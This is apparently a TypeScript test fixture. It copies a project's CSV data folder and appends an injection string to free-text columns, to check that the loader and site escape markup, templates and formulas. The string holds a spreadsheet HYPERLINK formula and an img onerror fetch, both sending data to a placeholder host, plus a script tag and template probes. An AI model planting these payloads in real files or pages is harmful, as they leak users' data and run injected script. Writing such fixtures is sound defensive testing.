import { cp, readdir, readFile, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { parse } from "csv-parse/sync";
import type { z } from "zod";
import { columnMeta } from "../../loaders/schema/columns.js";
import { tables, type TableName } from "../../loaders/schema/tables.js";
import {
  type ColumnSource,
  presetFile,
  sourcesFile,
  type SourcesFile,
  type TableSource
} from "../../loaders/sources/sourcesFile.js";
import { canonicalPreset } from "../../loaders/sources/readPreset.js";
import { projectFolder } from "../../loaders/site/paths.js";

/** What would run if any of it were taken for markup, a template or a formula. It asks a host that does not exist. */
export const hostileText =
  `=HYPERLINK("http://leak.invalid/?"&A1) <script>globalThis.pwned=1;alert(1)</script>` +
  `<img src=x onerror="globalThis.pwned=1;fetch('http://leak.invalid/')"> \${globalThis.pwned=1} \${1+1} {{1+1}} </script>`;

interface Column {
  source: ColumnSource;
  /** Any text may stand in it: nothing refers to it, maps it or filters by it. */
  isFreeText: boolean;
}

/**
 * Copies a data folder and appends the hostile text to every value of every text column of every CSV.
 * Ids, choices, dates, numbers and what sources.json maps, joins or filters by stay, so that every row still loads.
 * Returns how many columns were changed.
 */
export async function hostileCopy(data: string, into: string): Promise<number> {
  await cp(data, into, { recursive: true });
  const sources = sourcesFile.parse(JSON.parse(await readFile(join(data, "sources.json"), "utf8")));
  const kept = await headersInUse(sources);
  let changed = 0;
  for (const file of (await readdir(into)).filter((name) => name.endsWith(".csv"))) {
    const path = join(into, file);
    const { delimiter, encoding } = formatsOf(sources, file);
    const text = new TextDecoder(encoding).decode(await readFile(path));
    const [headers = [], ...records] = parse(text, {
      delimiter,
      relax_column_count: true,
      relax_quotes: true
    });
    const isHostile = headers.map((header, index) =>
      isTextColumn(
        header,
        records.map((record) => record[index] ?? ""),
        kept.get(file) ?? new Set()
      )
    );
    changed += isHostile.filter(Boolean).length;
    const lines = records.map((record) =>
      record.map((value, index) => (isHostile[index] && value !== "" ? `${value} ${hostileText}` : value))
    );
    const written = [headers, ...lines].map((line) => line.map(quoted).join(delimiter)).join("\r\n");
    await writeFile(path, written, encoding === "windows-1252" ? "latin1" : "utf8");
  }
  return changed;
}

/** How sources.json says that a file is written; what it says nothing of is the reader's default. */
export function formatsOf(
  { formats, tables: entries }: SourcesFile,
  file: string
): { delimiter: string; encoding: string } {
  const entry = Object.values(entries)
    .flat()
    .find((candidate) => candidate.file === file);
  const { delimiter = ",", encoding = "utf-8" } = { ...formats, ...entry?.formats };
  return { delimiter, encoding };
}

/** A column that the mapping needs as it is stays; so does one without letters, or of ids, dates or flags only. */
function isTextColumn(header: string, values: readonly string[], kept: ReadonlySet<string>): boolean {
  const filled = values.filter((value) => value !== "");
  if (kept.has(header) || filled.length === 0) return false;
  const plain = /^(?:[\d\s.,:/TZ+-]*|true|false|yes|no)$/i;
  return !filled.every((value) => plain.test(value));
}

/** By file: the headers whose values must stay for the rows to load. */
async function headersInUse(sources: SourcesFile): Promise<Map<string, Set<string>>> {
  const kept = new Map<string, Set<string>>();
  const keep = (file: string, headers: Iterable<string>): void => {
    const known = kept.get(file) ?? new Set();
    for (const header of headers) known.add(header);
    kept.set(file, known);
  };
  for (const [table, entries] of Object.entries(sources.tables))
    for (const entry of entries) {
      const definition = await mappingOf(table as TableName, entry);
      keep(entry.file, definition.filters);
      for (const { source, isFreeText } of definition.columns) {
        if (typeof source === "string") {
          if (!isFreeText) keep(entry.file, [source]);
        } else if ("lookup" in source || "sum" in source) {
          const joined = "lookup" in source ? source.lookup : source.sum;
          keep(entry.file, [...Object.keys(joined.match), ...Object.values(joined.match)]);
          keep(joined.file, [...Object.keys(joined.match), ...Object.values(joined.match)]);
          if ("lookup" in source && !isFreeText) keep(joined.file, [source.lookup.take]);
        } else if ("concat" in source && !isFreeText) {
          keep(
            entry.file,
            source.concat.filter((part) => typeof part === "string")
          );
        }
      }
    }
  return kept;
}

async function mappingOf(
  table: TableName,
  entry: TableSource
): Promise<{ columns: Column[]; filters: string[] }> {
  const preset =
    entry.preset === undefined ? canonicalPreset.tables[table] : await readPreset(entry.preset, table);
  const mapped: Record<string, ColumnSource> = { ...preset?.columns, ...entry.columns };
  const valueMaps = { ...preset?.values, ...entry.values };
  const shape = tables[table].columns.shape as Record<string, z.ZodType>;
  const columns = Object.entries(mapped).map(([name, source]) => ({
    source,
    // A currency is text to the schema, but only a known code has a rate.
    isFreeText:
      shape[name] !== undefined &&
      ["text", "name"].includes(columnMeta(shape[name]).kind) &&
      name !== "currency" &&
      valueMaps[name] === undefined
  }));
  return { columns, filters: [...(preset?.keep ?? []), ...(entry.keep ?? [])].map(({ column }) => column) };
}

async function readPreset(name: string, table: TableName) {
  const text = await readFile(join(projectFolder, "data", "presets", `${name}.json`), "utf8");
  return presetFile.parse(JSON.parse(text)).tables[table];
}

function quoted(value: string): string {
  return `"${value.replaceAll('"', '""')}"`;
}
